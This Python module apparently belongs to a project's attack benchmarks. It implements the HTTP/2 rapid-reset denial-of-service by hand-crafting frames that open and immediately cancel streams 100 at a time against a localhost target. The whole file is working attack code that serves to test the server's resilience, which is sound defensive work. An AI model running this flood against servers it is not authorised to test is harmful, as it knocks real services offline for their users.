"""Attacks by HTTP/2, which the server itself does not speak: a proxy that does sends on what it is asked for."""

from __future__ import annotations

import socket
import time
from contextlib import suppress

from benchmarks.attacks.target import Tally, Target, heard_by_now

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _RESET, _SETTINGS = 1, 3, 4
_WHOLE = 5  # the headers end, and the stream
_CANCEL = (8).to_bytes(4, "big")
STREAMS_AT_ONCE = 100


def resets_without_end(target: Target, seconds: float) -> Tally:
    """Ask and take it back at once, as fast as it goes: each is a request to the server that nobody waits for."""
    tally = Tally()
    until = time.monotonic() + seconds
    while time.monotonic() < until:
        with suppress(OSError), target.connect(speaking=("h2",), seconds=5) as connection:
            tally.count("connections")
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
            first = 1
            while time.monotonic() < until:
                asked = b"".join(_taken_back(target, stream) for stream in _streams(first))
                connection.sendall(asked)
                tally.count("streams", STREAMS_AT_ONCE)
                first += 2 * STREAMS_AT_ONCE
                _read_all(connection)
    tally.expect(tally.counts.get("streams", 0) > 0, "HTTP/2 is not spoken")
    return tally


def _streams(first: int) -> range:
    return range(first, first + 2 * STREAMS_AT_ONCE, 2)  # a client's are odd


def _read_all(connection: socket.socket) -> None:
    while heard_by_now(connection):
        pass


def _taken_back(target: Target, stream: int) -> bytes:
    """A request and that it is no more wanted (RFC 9113, 6.2 and 6.4)."""
    path, host = b"/api/offers", f"localhost:{target.port}".encode()
    fields = b"\x82\x87" + _literal(4, path) + _literal(1, host)  # GET and https have numbers (RFC 7541, appendix A)
    return _frame(_HEADERS, _WHOLE, stream, fields) + _frame(_RESET, 0, stream, _CANCEL)


def _literal(name: int, value: bytes) -> bytes:
    return bytes([name, len(value)]) + value


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
